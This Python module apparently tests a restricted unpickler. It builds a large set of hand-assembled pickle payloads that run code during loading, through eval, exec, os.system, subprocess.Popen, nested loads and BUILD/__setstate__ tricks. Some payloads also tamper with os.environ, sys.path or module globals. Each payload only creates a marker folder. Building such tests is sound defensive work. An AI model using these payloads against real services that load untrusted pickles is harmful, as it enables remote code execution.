# pickle_attacks.py - pickles that do what loading a value must not do
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Each attack is a pickle, and a way to see that it worked under plain pickle.

Run as a program it tries them on plain pickle, in the folder that it is run in, and prints the
names of those that worked."""

from __future__ import annotations

import io
import os
import pickle
import subprocess
import sys
from typing import Any, Callable, List, NamedTuple

MARK = "dsq-marker"  # a folder that most of them make
USER = "pickle_classes"

# What a careless user lists: nothing of it makes an attack pass.
ALLOWED = [
    USER, USER + ":shared", "__main__", "array", "atexit", "builtins", "codecs", "collections",
    "copyreg", "ctypes", "datetime", "decimal", "enum", "functools", "importlib", "io",
    "ipaddress", "itertools", "marshal", "operator", "os", "pathlib", "pickle", "posix", "re",
    "runpy", "shutil", "subprocess", "sys", "threading", "timeit", "types", "typing", "uuid",
    "weakref", "zoneinfo",
]  # fmt: skip


class Attack(NamedTuple):
    name: str
    payload: bytes
    worked: Callable[[Any], bool]
    load: Callable[[bytes], Any] = pickle.loads


P0, P2, P4, P5 = b"", b"\x80\x02", b"\x80\x04", b"\x80\x05"


def text(word):
    raw = word.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def name(module, qualname):
    return text(module) + text(qualname) + b"\x93"


def old_name(module, qualname):
    return f"c{module}\n{qualname}\n".encode()


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


def new(cls, *arguments):
    return cls + b"(" + b"".join(arguments) + b"t\x81"


def record(*pairs):
    return b"}(" + b"".join(pairs) + b"u"


MARKER = text(MARK)
MKDIR = name("posix", "mkdir")
PLAIN = name(USER, "Plain")


def made_the_folder(_result):
    try:
        os.rmdir(MARK)
    except OSError:
        return False
    return True


def left_a_mark(_result):
    import pickle_classes

    marks = list(pickle_classes.MARKS)
    pickle_classes.MARKS.clear()
    return bool(marks)


def gave(what):
    """The result is something that is no data."""
    return lambda result: isinstance(result, what)


def gave_a_function(result):
    return callable(result) and not isinstance(result, type)


def persistent(payload):
    class Unpickler(pickle.Unpickler):
        def persistent_load(self, pid):
            os.mkdir(MARK)

    return Unpickler(io.BytesIO(payload)).load()


def _try(payload):
    """Its effect comes first, and then it fails."""
    try:
        return pickle.loads(payload)
    except Exception:
        return None


def user(attribute):
    import pickle_classes

    return getattr(pickle_classes, attribute)


def imports_and_calls() -> List[Attack]:
    code = f"__import__('os').mkdir({MARK!r})"
    folder = made_the_folder
    shell = [b"]", text("mkdir"), b"a", MARKER, b"a"]

    def ran(result):
        return result.wait() == 0 and made_the_folder(result)

    def popen(*names):
        return P4 + call(name(*names), *shell) + b"."

    source = "import os; os.mkdir('%s')" % MARK
    inner = P4 + call(MKDIR, MARKER) + b"."
    return [
        Attack("eval", P4 + call(name("builtins", "eval"), text(code)) + b".", folder),
        Attack("exec", P5 + call(name("builtins", "exec"), text(source)) + b".", folder),
        Attack("eval, protocol 0", f"c__builtin__\neval\n(V{code}\ntR.".encode(), folder),
        Attack("eval, protocol 2", P2 + call(old_name("__builtin__", "eval"), b"X", bytes(
            [len(code), 0, 0, 0]), code.encode()) + b".", folder),
        Attack("eval, protocol 3", b"\x80\x03" + call(old_name("builtins", "eval"), b"X", bytes(
            [len(code), 0, 0, 0]), code.encode()) + b".", folder),
        Attack("posix.mkdir", P4 + call(MKDIR, MARKER) + b".", folder),
        Attack("os.mkdir", P4 + call(name("os", "mkdir"), MARKER) + b".", folder),
        Attack("os.system", P4 + call(name("os", "system"), text("mkdir " + MARK)) + b".", folder),
        Attack("a name of Python 2", P2 + call(old_name("commands", "getoutput"), b"U",
               bytes([len("mkdir " + MARK)]), b"mkdir " + MARK.encode()) + b".", folder),
        Attack("subprocess.Popen", popen("subprocess", "Popen"), ran),
        Attack("Popen of a user's module", popen(USER, "Popen"), ran),
        Attack("a class built on Popen", popen(USER, "MyPopen"), ran),
        Attack("a class whose metaclass lies", popen(USER, "Liar"), ran),
        Attack("a call of what a call gave", P4 + call(call(name("builtins", "getattr"), call(
            name("subprocess", "Popen"), *shell), text("wait"))) + b".", folder),
        Attack("check_output", P4 + call(name("subprocess", "check_output"), *shell) + b".",
               folder),
        Attack("a module's import of a module", P4 + call(name(USER, "os.mkdir"), MARKER) + b".",
               folder),
        Attack("pathlib.os.mkdir", P4 + call(name("pathlib", "os.mkdir"), MARKER) + b".", folder),
        Attack("datetime.sys.modules", P4 + name("datetime", "sys.modules") + b".", gave(dict)),
        Attack("datetime.sys", P4 + name("datetime", "sys") + b".", gave(type(sys))),
        Attack("uuid._get_command_stdout", P4 + call(
            name("uuid", "_get_command_stdout"), text("mkdir"), MARKER) + b".", folder),
        Attack("pathlib.Path.mkdir", P4 + call(name("pathlib", "Path.mkdir"), call(
            name("pathlib", "PosixPath"), MARKER)) + b".", folder),
        Attack("a user's function", P4 + call(name(USER, "helper")) + b".", left_a_mark),
        Attack("a user's function as a value", P4 + name(USER, "helper") + b".", gave_a_function),
        Attack("a function under a user's name",
               P4 + call(name(USER, "renamed_function"), MARKER) + b".", folder),
        Attack("what says it is a class", P4 + call(name(USER, "pretender")) + b".", left_a_mark),
        Attack("a module's __getattr__", P4 + b"N0" + name(USER, "surprise") + b".", left_a_mark,
               _try),
        Attack("a class under another name", P4 + new(name(USER, "Alias")) + b".",
               lambda result: type(result) is user("Plain")),
        Attack("a class with a forged module", P4 + new(name(USER, "Forged")) + b".",
               lambda result: type(result) is user("Forged")),
        Attack("a metaclass", P4 + call(name(USER, "Meta"), text("X"), b")", b"}") + b".",
               gave(type)),
        Attack("type", P4 + call(name("builtins", "type"), text("X"), b")", b"}") + b".",
               gave(type)),
        Attack("__import__", P4 + call(name("builtins", "__import__"), text("os")) + b".",
               gave(type(os))),
        Attack("import_module", P4 + call(name("importlib", "import_module"), text("os")) + b".",
               gave(type(os))),
        Attack("a module with effects", P4 + name("pickle_effects", "x") + b".", folder),
        Attack("open", P4 + call(name("builtins", "open"), text("/dev/null")) + b".",
               gave(io.IOBase)),
        Attack("io.FileIO", P4 + call(name("io", "FileIO"), text("/dev/null")) + b".",
               gave(io.IOBase)),
        Attack("getattr of a module", P4 + call(call(name("builtins", "getattr"), name(
            USER, "os"), text("mkdir")), MARKER) + b".", folder),
        Attack("getattr of a class", P4 + call(name("builtins", "getattr"), PLAIN, text(
            "__init__")) + b".", gave_a_function),
        Attack("getattr of an enumeration", P4 + call(name("builtins", "getattr"), name(
            USER, "Color"), text("__subclasses__")) + b".", gave_a_function),
        Attack("getattr with a computed name", P4 + call(name("builtins", "getattr"), name(
            USER, "os"), call(name("builtins", "str"), b"C\x05mkdir", text("ascii"))) + b".",
            gave_a_function),
        Attack("globals of a method", P4 + name(USER, "Plain.__init__.__globals__") + b".",
               gave(dict)),
        Attack("object.__subclasses__", P4 + call(name(
            "builtins", "object.__subclasses__")) + b".", gave(list)),
        Attack("attrgetter", P4 + call(call(call(name("operator", "attrgetter"), text(
            "mkdir")), name(USER, "os")), MARKER) + b".", folder),
        Attack("methodcaller", P4 + call(call(name("operator", "methodcaller"), text(
            "mkdir"), MARKER), name(USER, "os")) + b".", folder),
        Attack("partial", P4 + call(call(name("functools", "partial"), MKDIR, MARKER)) + b".",
               folder),
        Attack("reduce", P4 + call(name("functools", "reduce"), MKDIR, b"]", MARKER, b"a",
               b"K\x00a") + b".", folder, _try),
        Attack("map", P4 + call(name("builtins", "list"), call(name(
            "builtins", "map"), MKDIR, b"]", MARKER, b"a")) + b".", folder),
        Attack("or_ of what are no flags", P4 + call(name("_operator", "or_"), b"\x8f",
               b"\x8f") + b".", gave(set)),
        Attack("code", P4 + call(name("types", "FunctionType"), call(name("builtins", "compile"),
               text(source), text("x"), text("exec")), b"}") + b".", gave_a_function),
        Attack("marshal", P4 + call(name("marshal", "loads"), b"C\x01N") + b".",
               lambda result: result is None),
        Attack("a nested pickle", P4 + call(name("pickle", "loads"), b"C", bytes([len(inner)]),
               inner) + b".", folder),
        Attack("a nested pickle, by _pickle", P4 + call(name("_pickle", "loads"), b"C", bytes(
            [len(inner)]), inner) + b".", folder),
        Attack("timeit", P4 + call(name("timeit", "timeit"), text(source), text("pass"), name(
            "time", "perf_counter"), b"K\x01") + b".", folder),
        Attack("atexit", P4 + call(name("atexit", "register"), name("os", "getpid")) + b".",
               gave_a_function),
        Attack("weakref.finalize", P4 + call(name("weakref", "finalize"), PLAIN, name(
            "os", "getpid")) + b".", lambda result: result.alive),
        Attack("threading.Timer", P4 + call(name("threading", "Timer"), b"K\x00", name(
            "os", "getpid")) + b".", lambda result: hasattr(result, "start")),
        Attack("CDLL", P4 + call(name("ctypes", "CDLL"), b"N") + b".",
               lambda result: hasattr(result, "_handle")),
        Attack("namedtuple", P4 + call(name("collections", "namedtuple"), text("X"), text(
            "a")) + b".", gave(type)),
        Attack("sys.modules", P4 + name("sys", "modules") + b".", gave(dict)),
        Attack("os.environ", P4 + name("os", "environ") + b".", lambda result: "PATH" in result),
        Attack("a codec", P4 + call(name("_codecs", "encode"), text("nzxqve"), text(
            "rot13")) + b".", gave(str)),
        Attack("decoding", P4 + call(name("_codecs", "decode"), b"C\x01a", text("ascii")) + b".",
               gave(str)),
        Attack("a class made of an enumeration", P4 + call(name("enum", "Enum"), text("X"), text(
            "a b")) + b".", gave(type)),
        Attack("defaultdict(eval)", P4 + call(name("collections", "defaultdict"), name(
            "builtins", "eval")) + b".", lambda result: result.default_factory is eval),
        Attack("defaultdict(reduce)", P2 + call(old_name("collections", "defaultdict"), old_name(
            "__builtin__", "reduce")) + b".", lambda result: callable(result.default_factory)),
        Attack("shutil.rmtree as a value", P4 + b"](" + name("shutil", "rmtree") + b"e.",
               lambda result: callable(result[0])),
        Attack("memoryview", P4 + call(name("builtins", "memoryview"), b"C\x01a") + b".",
               gave(memoryview)),
        Attack("print", P4 + call(name("builtins", "print")) + b".", lambda r: r is None),
        Attack("a popped call", P4 + call(MKDIR, MARKER) + b"0N.", folder),
        Attack("a call above a popped mark", P4 + b"N(" + call(MKDIR, MARKER) + b"1.", folder),
        Attack("a call out of the memo", P4 + MKDIR + b"q\x070N0" + call(b"h\x07", MARKER) + b".",
               folder),
        Attack("a call of a duplicate", P4 + MKDIR + b"2(" + MARKER + b"tR0.", folder,
               _try),
        Attack("a computed module", P4 + call(name("builtins", "str"), b"C\x05posix", text(
            "ascii")) + text("mkdir") + b"\x93(" + MARKER + b"tR.", folder),
        Attack("a later protocol", P4 + call(P2 + old_name("__builtin__", "eval"), text(
            code)) + b".", folder),
        Attack("_reconstructor of another base", P2 + call(old_name(
            "copy_reg", "_reconstructor"), old_name(USER, "Items"), old_name("__builtin__", "list"),
            call(old_name("__builtin__", "xrange"), b"K\x09")) + b".", gave(list)),

        Attack("__newobj__", P4 + call(name("copyreg", "__newobj__"), name(
            "builtins", "bytearray")) + b".", gave(bytearray)),
    ]  # fmt: skip


def opcodes() -> List[Attack]:
    folder = made_the_folder
    shown = f"S'{MARK}'\n".encode()
    return [
        Attack("INST", b"(" + shown + b"iposix\nmkdir\n.", folder),
        Attack("OBJ", b"(cposix\nmkdir\n" + shown + b"o.", folder),
        Attack("INST of an allowed class", f"(i{USER}\nPlain\n.".encode(),
               lambda result: type(result) is user("Plain")),
        Attack("NEWOBJ", P4 + new(name("io", "StringIO")) + b".", gave(io.StringIO)),
        Attack("NEWOBJ_EX", P4 + name("io", "StringIO") + b")}\x92.", gave(io.StringIO)),
        Attack("NEWOBJ of a subclass", P4 + new(name("threading", "Thread")) + b".",
               lambda result: hasattr(result, "run")),
        Attack("EXT1", P2 + call(b"\x82\x75", text(MARK)) + b".", folder),
        Attack("EXT2", P2 + call(b"\x83\x75\0", text(MARK)) + b".", folder),
        Attack("EXT4", P2 + call(b"\x84\x75\0\0\0", text(MARK)) + b".", folder),
        Attack("PERSID", b"Px\n.", folder, persistent),
        Attack("BINPERSID", b"\x80\x02NQ.", folder, persistent),
        Attack("NEXT_BUFFER", P5 + b"\x97.", gave(bytes),
               lambda payload: pickle.loads(payload, buffers=[b"outside"])),
        Attack("READONLY_BUFFER", P5 + b"\x97\x98.", gave(memoryview),
               lambda payload: pickle.loads(payload, buffers=[bytearray(b"outside")])),
    ]  # fmt: skip


def changes() -> List[Attack]:
    """Of what was there before."""

    def changed(holder, attribute):
        def worked(_result):
            found = user(holder)
            was = found.__dict__.get(attribute) if attribute else None
            return was == "changed"

        return worked

    plain = new(PLAIN)
    word = text("changed")
    member = call(name("builtins", "getattr"), name(USER, "Color"), text("RED"))
    state = record(text("flag"), text("changed"))
    return [
        Attack("BUILD on a class", P4 + PLAIN + b"N" + state + b"\x86b.", changed("Plain", "flag")),
        Attack("BUILD on a function", P4 + name(USER, "helper") + state + b"b.",
               changed("helper", "flag")),
        Attack("BUILD on a module", P4 + name(USER, "os") + state + b"b.", changed("os", "flag")),
        Attack("BUILD on a member of an enumeration", P4 + member + state + b"b.",
               lambda result: result.flag == "changed"),
        Attack("BUILD on a member by value", P4 + call(name(USER, "Color"), b"K\x01") + state +
               b"b.", lambda result: result.flag == "changed"),
        Attack("BUILD of a class", P4 + plain + b"N" + record(text("__class__"), name(
            USER, "Other")) + b"\x86b.", lambda result: type(result) is user("Other")),
        Attack("BUILD of a class, by an OrderedDict", P4 + plain + b"N" + call(name(
            "collections", "OrderedDict")) + text("__class__") + name(USER, "Other") + b"s\x86b.",
            lambda result: type(result) is user("Other")),
        Attack("BUILD twice", P4 + plain + record(text("__setstate__"), MKDIR) + b"b" + MARKER +
               b"b.", made_the_folder),
        Attack("BUILD twice, with a class", P4 + plain + record(text("__setstate__"), PLAIN) + b"b}"
               b"b.", lambda result: type(result) is user("Plain"),
               lambda payload: pickle.loads(payload.replace(b"b}b", b"b}0"))),
        Attack("BUILD, then APPEND", P4 + plain + record(text("append"), MKDIR) + b"b" + MARKER +
               b"a.", made_the_folder),
        Attack("BUILD, then ADDITEMS", P4 + plain + record(text("add"), MKDIR) + b"b(" + MARKER +
               b"\x90.", made_the_folder),
        Attack("APPEND to what is no container", P4 + new(name(USER, "Appending")) + word + b"a.",
               left_a_mark),
        Attack("SETITEM into what is no container", P4 + new(name(USER, "Appending")) + word +
               b"Ns.", left_a_mark),
        Attack("ADDITEMS to what is no container", P4 + new(name(USER, "Appending")) + b"(" + word +
               b"\x90.", left_a_mark),
        Attack("a property, by a state of slots", P4 + new(name(USER, "Setting")) + b"N" + record(
            text("prop"), word) + b"\x86b.", left_a_mark),
        Attack("__setattr__, by a state of slots", P4 + new(name(USER, "SettingAll")) + b"N" +
               record(text("kept"), word) + b"\x86b.", left_a_mark),
        Attack("a property, by an exception's state", P4 + call(name(USER, "SettingError")) +
               record(text("prop"), word) + b"b.", left_a_mark),
        Attack("a property, by a state made before", P4 + record(text("prop"), word) + b"\x940" +
               call(name(USER, "SettingError")) + b"h\x00b.", left_a_mark),
        Attack("a property, by NEWOBJ of an exception", P4 + new(name(USER, "SettingError")) +
               record(text("prop"), word) + b"b.", left_a_mark),
        Attack("an exception's arguments", P4 + call(name("builtins", "ValueError")) + record(
            text("args"), call(name("builtins", "range"), b"K\x09")) + b"b.",
            lambda result: result.args == tuple(range(9))),
        Attack("BUILD on what a function gave", P4 + call(name(USER, "shared")) + state + b"b.",
               lambda _result: user("SHARED").__dict__.pop("flag", "") == "changed"),
        Attack("a class's attribute, as of a nested class", P4 + call(call(name(
            "builtins", "getattr"), PLAIN, text("__init__")), plain) + b".",
            lambda result: result is None),
        Attack("getitem of what is no generic class", P4 + call(name(
            "_operator", "getitem"), record(text("k"), word), text("k")) + b".",
            lambda result: result == "changed"),
        Attack("a str of a list", P4 + call(name(USER, "Text"), b"](K\x01e") + b".",
               lambda result: result == "[1]"),
        Attack("a str of encoded bytes", P4 + call(name(USER, "Text"), b"C\x01a", text(
            "ascii")) + b".", lambda result: result == "a"),
        Attack("a dict of pairs that are none", P4 + call(name(USER, "Mapping"), b"](" + call(name(
            "builtins", "range"), b"K\x02") + b"e") + b".", lambda result: result == {0: 1}),
        Attack("SETITEM into a module's dict", P4 + name(USER, "TABLE") + text("k") + b"Ns.",
               lambda _result: user("TABLE").pop("k", 0) is None),
        Attack("SETITEMS into os.environ", P4 + name("os", "environ") + b"(" + text("DSQ") + text(
            "x") + b"u.", lambda _result: os.environ.pop("DSQ", "") == "x"),
        Attack("APPEND to a module's list", P4 + name(USER, "MARKS") + b"Na.", left_a_mark),
        Attack("APPENDS to sys.path", P4 + name("sys", "path") + b"(" + text("/x") + b"e.",
               lambda _result: sys.path.pop() == "/x"),
        Attack("ADDITEMS to a module's set", P4 + name(USER, "SET") + b"(K\x01\x90.",
               lambda _result: user("SET") == {1}),
        Attack("SETITEM into a namespace", P4 + name(USER, "Plain.__init__.__globals__") + text(
            "injected") + text("x") + b"s.", lambda result: result.pop("injected") == "x"),
    ]  # fmt: skip


def attacks() -> List[Attack]:
    return imports_and_calls() + opcodes() + changes()


def main():
    with open("pickle_effects.py", "w", encoding="utf-8") as module:
        module.write(f"import os\nos.mkdir({MARK!r})\nx = None\n")
    sys.path.insert(0, os.getcwd())
    subprocess.Popen("true").wait()
    import pickle_classes  # registers an extension

    assert pickle_classes
    for attack in attacks():
        try:
            result = attack.load(attack.payload)
            worked = attack.worked(result)
        except Exception as error:
            print(attack.name, repr(error), file=sys.stderr)
            continue
        if worked:
            print(attack.name)
        else:
            print(attack.name, "had no effect", file=sys.stderr)
    sys.stdout.flush()


if __name__ == "__main__":
    main()
